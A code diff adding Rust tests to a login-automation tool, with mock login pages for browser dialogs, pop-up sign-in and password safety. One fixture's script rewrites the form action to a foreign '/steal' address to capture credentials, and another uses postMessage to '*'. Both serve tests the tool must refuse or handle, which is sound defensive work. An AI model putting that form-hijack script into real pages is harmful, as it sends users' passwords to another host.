@@ -6,7 +6,10 @@ use jarkeeper::renewal::How;
 use jarkeeper::session::formats::{Format, export};
 use md5::{Digest, Md5};
 
-use super::{Ask, Desk, Fixture, PASSWORD, Reply, Running, USER, WHO, WRONG, home, page, shows};
+use super::{
+    Ask, Desk, Fixture, PASSWORD, Reply, Running, USER, WHO, WRONG, home, page, pass, pass_with, refuse, shows,
+    together,
+};
 use crate::support::{Keeper, run};
 
 /// What a site says that wants HTTP authentication; without a text, as many are.
@@ -207,4 +210,101 @@ fn http_authentication_of_a_foreign_origin_or_an_unknown_scheme_is_refused() {
         let (_, failure) = super::refuses("negotiate", other, FailureClass::RecipeWrong, 0).await;
         assert!(failure.message.contains("by Negotiate"), "{failure}");
     });
+}
+
+const FORM: &str = "<form method=post action=/login><label>Username <input name=username></label>\
+    <label>Password <input name=password type=password></label><button>Log in</button></form>";
+
+/// A usual site whose login page has this body, and whose refusal has that one.
+fn site(login: &'static str, refusal: &'static str) -> Fixture {
+    Fixture::new(move |desk, ask| match ask.line().as_str() {
+        "GET /login" => page("Log in", login),
+        "POST /login" => desk
+            .enter(ask, "username", "password")
+            .unwrap_or_else(|| page("Log in", refusal)),
+        _ => desk.usual(ask),
+    })
+}
+
+#[test]
+fn dialogs_of_the_browser_are_answered_and_read() {
+    let asked = "<form method=post action=/login onsubmit=\"return confirm('Another session is open. Continue?')\">\
+        <label>Username <input name=username></label><label>Password <input name=password type=password></label>\
+        <button>Log in</button></form>";
+    let greets = "<script>alert('Welcome to Notes'); onbeforeunload = e => e.preventDefault()</script>\
+        <form method=post action=/login><label>Username <input name=username></label>\
+        <label>Password <input name=password type=password></label><button>Log in</button></form>";
+    let told = "<form id=f><label>Username <input id=u></label><label>Password <input id=p type=password></label>\
+        <button>Log in</button></form><script>f.onsubmit = async e => { e.preventDefault(); const r = await fetch('/login',\
+        { method: 'POST', body: new URLSearchParams({ username: u.value, password: p.value }) });\
+        if (r.redirected) location = '/home'; else alert('Wrong username or password') }</script>";
+    let wrong = "<script>alert('Неверный пароль')</script><form method=post action=/login><label>Имя <input name=username></label>\
+        <label>Пароль <input name=password type=password></label><button>Войти</button></form>";
+    together([
+        pass("confirm", site(asked, FORM)),
+        pass("alert and beforeunload", site(greets, FORM)),
+        pass("a script that tells by alert", site(told, FORM)),
+        refuse("refused by alert", site(told, FORM).wrong(), FailureClass::WrongCredentials, 1),
+        refuse("refused by alert of the next page", site(FORM, wrong).wrong(), FailureClass::WrongCredentials, 1),
+    ]);
+}
+
+/// The application opens its provider in a window, which hands over and closes, or stays.
+fn in_window(link: &'static str, closes: bool) -> Fixture {
+    Fixture::new(move |desk, ask| match ask.line().as_str() {
+        "GET /login" => page(
+            "Notes",
+            &format!(
+                "<h1>Notes</h1>{link}<script>onmessage = async e => {{ await fetch('/redeem?code=' + e.data, {{ method: 'POST' }});\
+                 location = '/home' }}</script>"
+            ),
+        ),
+        "GET /window" => page("Provider", &FORM.replace("/login", "/window")),
+        "POST /window" => match desk.judge(ask.field("username"), ask.field("password")) {
+            true if closes => {
+                let code = desk.fresh("c");
+                desk.note("code", &code);
+                page("Done", &format!("<script>opener.postMessage('{code}', '*'); close()</script>"))
+            }
+            true => super::to("/home").cookie(&format!("sid={}; Path=/; HttpOnly", desk.open(USER))),
+            false => page("Provider", &format!("<p class=error>Wrong password</p>{}", FORM.replace("/login", "/window"))),
+        },
+        "POST /redeem" if ask.field("code") == desk.noted("code") && !ask.field("code").is_empty() => {
+            page("Done", "").cookie(&format!("sid={}; Path=/; HttpOnly", desk.open(USER)))
+        }
+        _ => desk.usual(ask),
+    })
+}
+
+const POP_UP: &str = "<button onclick=\"open('%BASE%/window', 'sso', 'width=500,height=600')\">Sign in</button>";
+const POP_UP_ELSEWHERE: &str = "<button onclick=\"open('%FOREIGN%/window', 'sso', 'width=500,height=600')\">Sign in</button>";
+const NEW_TAB: &str = "<a href=/window target=_blank>Sign in</a>";
+
+#[test]
+fn a_login_in_a_new_window_is_followed() {
+    together([
+        pass("pop-up", in_window(POP_UP, true)),
+        pass("new tab", in_window(NEW_TAB, false)),
+        pass_with("pop-up of an allowed origin", in_window(POP_UP_ELSEWHERE, true), "allowed_origins = [\"%FOREIGN%\"]\n"),
+        refuse("pop-up of a foreign origin", in_window(POP_UP_ELSEWHERE, true), FailureClass::RecipeWrong, 0),
+        refuse("wrong in a pop-up", in_window(POP_UP, true).wrong(), FailureClass::WrongCredentials, 1),
+    ]);
+}
+
+#[test]
+fn a_password_is_kept_out_of_addresses_and_from_a_changed_action() {
+    let get = "<form action=/login><label>Username <input name=username></label>\
+        <label>Password <input name=password type=password></label><button>Log in</button></form>";
+    let taken_over = "<form id=f><label>Username <input name=username></label>\
+        <label>Password <input name=password type=password></label><button>Log in</button></form><script>f.onsubmit = async e => {\
+        e.preventDefault(); await fetch('/login', { method: 'POST', body: new URLSearchParams(new FormData(f)) });\
+        location = '/home' }</script>";
+    let changed = "<form id=f method=post action=/login><label>Username <input name=username></label>\
+        <label>Password <input name=password type=password></label><button>Log in</button></form><script>\
+        f.onsubmit = () => { f.action = '%FOREIGN%/steal' }</script>";
+    together([
+        pass("get that a script takes over", site(taken_over, FORM)),
+        refuse("get", site(get, FORM), FailureClass::RecipeWrong, 0),
+        refuse("changed action", site(changed, FORM), FailureClass::RecipeWrong, 0),
+    ]);
 }
